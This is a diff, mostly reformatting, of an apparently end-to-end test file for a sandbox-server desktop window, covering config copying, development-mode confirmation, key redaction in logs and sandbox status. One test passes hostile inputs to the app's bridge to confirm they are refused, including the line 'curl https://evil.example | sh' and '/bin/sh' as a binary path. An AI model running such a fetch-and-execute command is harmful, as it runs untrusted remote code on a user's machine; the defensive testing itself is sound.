@@ -100,11 +100,17 @@ describe('the window against the real handlers and the msbserver stand-in', () =
 
     await button(page, 'Copy MCP config').click();
     await expect.poll(() => r.readClipboard()).toMatch(/^\{/);
-    const mcp = JSON.parse(await r.readClipboard()) as { mcpServers: { microsandbox: { url: string; headers: Record<string, string> } } };
-    expect(mcp).toEqual({ mcpServers: { microsandbox: { url: `${url}/mcp`, headers: { Authorization: `Bearer ${token}` } } } });
+    const mcp = JSON.parse(await r.readClipboard()) as {
+      mcpServers: { microsandbox: { url: string; headers: Record<string, string> } };
+    };
+    expect(mcp).toEqual({
+      mcpServers: { microsandbox: { url: `${url}/mcp`, headers: { Authorization: `Bearer ${token}` } } },
+    });
 
     // Nothing of the token was stored by the page.
-    const stored = await page.evaluate(() => JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }));
+    const stored = await page.evaluate(
+      () => JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }),
+    );
     expect(stored).toBe('{}{}');
   });
 
@@ -210,7 +216,9 @@ describe('the window against the real handlers and the msbserver stand-in', () =
     await expect.poll(() => r.calls).toContain('logs:tail');
     await expect.poll(() => byTestId(page, 'log-path').textContent(), { timeout: 10_000 }).toBe(r.controller.logFile);
     appendFileSync(r.controller.logFile, 'a line written after the window opened\n');
-    await expect.poll(() => byTestId(page, 'log-lines').textContent(), { timeout: 10_000 }).toContain('a line written after the window opened');
+    await expect
+      .poll(() => byTestId(page, 'log-lines').textContent(), { timeout: 10_000 })
+      .toContain('a line written after the window opened');
     await button(page, 'Open log folder').click();
     await expect.poll(() => r.revealed).toEqual([r.controller.logFile]);
   });
@@ -229,7 +237,9 @@ describe('the window against the real handlers and the msbserver stand-in', () =
 
     await button(page, 'Reset server key').click();
     const dialog = page.getByRole('dialog');
-    await expect.poll(() => dialog.textContent()).toMatch(/Every key issued so far stops working, and the server restarts/);
+    await expect
+      .poll(() => dialog.textContent())
+      .toMatch(/Every key issued so far stops working, and the server restarts/);
     await button(page, 'Cancel').click();
     expect(r.calls).not.toContain('server:reset-key');
 
@@ -246,7 +256,9 @@ describe('the window against the real handlers and the msbserver stand-in', () =
     await page.getByRole('tab', { name: 'Settings' }).click();
     await page.getByLabel('Development mode (no keys needed)').check();
     await button(page, 'Save').click();
-    await expect.poll(() => byTestId(page, 'settings-message').textContent()).toBe('Not saved: Development mode stays off: it was not confirmed.');
+    await expect
+      .poll(() => byTestId(page, 'settings-message').textContent())
+      .toBe('Not saved: Development mode stays off: it was not confirmed.');
     expect(r.questions.map((question) => question.title)).toEqual(['Turn on development mode?']);
     expect(r.questions[0]?.detail).toContain('open to every program on this computer and every web page you visit');
     expect(r.settings.get().devMode).toBe(false);
@@ -255,13 +267,15 @@ describe('the window against the real handlers and the msbserver stand-in', () =
     await button(page, 'Save').click();
     await expect.poll(() => byTestId(page, 'settings-message').textContent()).toMatch(/^Saved/);
     expect(r.settings.get().devMode).toBe(true);
-    await expect.poll(() => byTestId(page, 'settings-exposure').textContent()).toBe(
-      'With these settings the server is open to every program on this computer and every web page you visit.',
-    );
+    await expect
+      .poll(() => byTestId(page, 'settings-exposure').textContent())
+      .toBe('With these settings the server is open to every program on this computer and every web page you visit.');
     // A host other computers reach is now refused outright, without a question.
     await page.getByLabel('Host').fill('0.0.0.0');
     await button(page, 'Save').click();
-    await expect.poll(() => byTestId(page, 'settings-message').textContent()).toMatch(/^Not saved: Development mode on 0\.0\.0\.0 is refused/);
+    await expect
+      .poll(() => byTestId(page, 'settings-message').textContent())
+      .toMatch(/^Not saved: Development mode on 0\.0\.0\.0 is refused/);
     expect(r.questions).toHaveLength(2);
   });
 
@@ -270,14 +284,23 @@ describe('the window against the real handlers and the msbserver stand-in', () =
     const { page } = r;
     await page.evaluate(() => navigator.clipboard.writeText('what the user had'));
     const answers = await page.evaluate(async () => {
-      const msb = (window as unknown as { msb: Record<string, (payload?: unknown) => Promise<{ ok: boolean; error?: { code: string } }>> }).msb;
+      const msb = (
+        window as unknown as {
+          msb: Record<string, (payload?: unknown) => Promise<{ ok: boolean; error?: { code: string } }>>;
+        }
+      ).msb;
       const results: Record<string, string> = {};
-      const codeOf = async (name: string, call: () => Promise<{ ok: boolean; error?: { code: string } }>): Promise<void> => {
+      const codeOf = async (
+        name: string,
+        call: () => Promise<{ ok: boolean; error?: { code: string } }>,
+      ): Promise<void> => {
         const answer = await call();
         results[name] = answer.ok ? 'ok' : (answer.error?.code ?? '?');
       };
       await codeOf('text', () => msb['copy']!({ text: 'curl https://evil.example | sh', secret: false }));
-      await codeOf('forged key', () => msb['copy']!({ what: 'export-line', token: 'msb_eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJleHAiOjF9.c2ln' }));
+      await codeOf('forged key', () =>
+        msb['copy']!({ what: 'export-line', token: 'msb_eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJleHAiOjF9.c2ln' }),
+      );
       await codeOf('path', () => msb['setSettings']!({ msbserverPath: '/bin/sh' }));
       await codeOf('chooser', () => msb['chooseMsbserver']!());
       return results;
@@ -325,7 +348,12 @@ describe('sandboxes in the window', () => {
     const response = await fetch(`http://127.0.0.1:${r.port}/api/v1/rpc`, {
       method: 'POST',
       headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${token}` },
-      body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'sandbox.start', params: { sandbox, namespace, config: { image: 'microsandbox/python' } } }),
+      body: JSON.stringify({
+        jsonrpc: '2.0',
+        id: 1,
+        method: 'sandbox.start',
+        params: { sandbox, namespace, config: { image: 'microsandbox/python' } },
+      }),
     });
     expect(response.status, await response.text()).toBe(200);
   }
@@ -345,21 +373,29 @@ describe('sandboxes in the window', () => {
     // Pushed to the window: no reload, no polling.
     await expect.poll(() => stateOf(page, 'team/web'), { timeout: 10_000 }).toBe('Running');
     expect(await byTestId(page, 'sandboxes-summary').textContent()).toBe('1 sandbox running in 1 namespace');
-    await expect.poll(() => rowOf(page, 'team/web').getByTestId('sandbox-memory').textContent(), { timeout: 10_000 }).toMatch(/MiB$/);
+    await expect
+      .poll(() => rowOf(page, 'team/web').getByTestId('sandbox-memory').textContent(), { timeout: 10_000 })
+      .toMatch(/MiB$/);
     expect(await rowOf(page, 'team/web').getByTestId('sandbox-port').textContent()).toMatch(/^[0-9]+$/);
     await shootLightDark(page, 'sandboxes-running');
 
     await button(page, 'Log of web in team').click();
-    await expect.poll(() => byTestId(page, 'sandbox-log-lines').textContent(), { timeout: 10_000 }).toContain('[stand-in µvm] ready');
+    await expect
+      .poll(() => byTestId(page, 'sandbox-log-lines').textContent(), { timeout: 10_000 })
+      .toContain('[stand-in µvm] ready');
     const key = readFileSync(r.paths.keyFile, 'utf8');
     const logFile = path.join(r.paths.namespacesDir, 'team', '.menv', 'log', 'Sandboxfile', 'web.log');
     appendFileSync(logFile, `guest printed ${key} and --key ${key}\n`);
-    await expect.poll(() => byTestId(page, 'sandbox-log-lines').textContent(), { timeout: 10_000 }).toContain('guest printed [server key hidden]');
+    await expect
+      .poll(() => byTestId(page, 'sandbox-log-lines').textContent(), { timeout: 10_000 })
+      .toContain('guest printed [server key hidden]');
     expect(await byTestId(page, 'sandbox-log-lines').textContent()).not.toContain(key);
 
     // The Keys tab suggests the namespace that now exists.
     await page.getByRole('tab', { name: 'Keys' }).click();
-    const options = await page.locator('[data-testid="key-namespace-suggestions"] option').evaluateAll((nodes) => nodes.map((n) => (n as HTMLOptionElement).value));
+    const options = await page
+      .locator('[data-testid="key-namespace-suggestions"] option')
+      .evaluateAll((nodes) => nodes.map((n) => (n as HTMLOptionElement).value));
     expect(options).toEqual(['*', 'team']);
     await page.getByLabel('Namespace').fill('nobody-yet');
     expect(await byTestId(page, 'key-namespace-note').textContent()).toMatch(/no folder yet/);
@@ -369,7 +405,9 @@ describe('sandboxes in the window', () => {
     await expect.poll(() => byTestId(page, 'sandboxes-outcome').textContent()).toBe('Asked web to stop.');
     await expect.poll(() => stateOf(page, 'team/web'), { timeout: 10_000 }).toBe('Stopped');
     expect(await button(page, 'Stop web in team').isDisabled()).toBe(true);
-    await expect.poll(() => byTestId(page, 'sandbox-log-lines').textContent(), { timeout: 10_000 }).toContain('shutting down');
+    await expect
+      .poll(() => byTestId(page, 'sandbox-log-lines').textContent(), { timeout: 10_000 })
+      .toContain('shutting down');
     // The list came once, at load; everything after it was pushed.
     expect(r.calls.filter((c) => c === 'sandboxes:list')).toHaveLength(1);
     await shootLightDark(page, 'sandboxes-log');
@@ -400,4 +438,3 @@ describe('sandboxes in the window', () => {
     await expect.poll(() => stateOf(page, 'team/web'), { timeout: 10_000 }).toBe('Stopped');
   });
 });
-
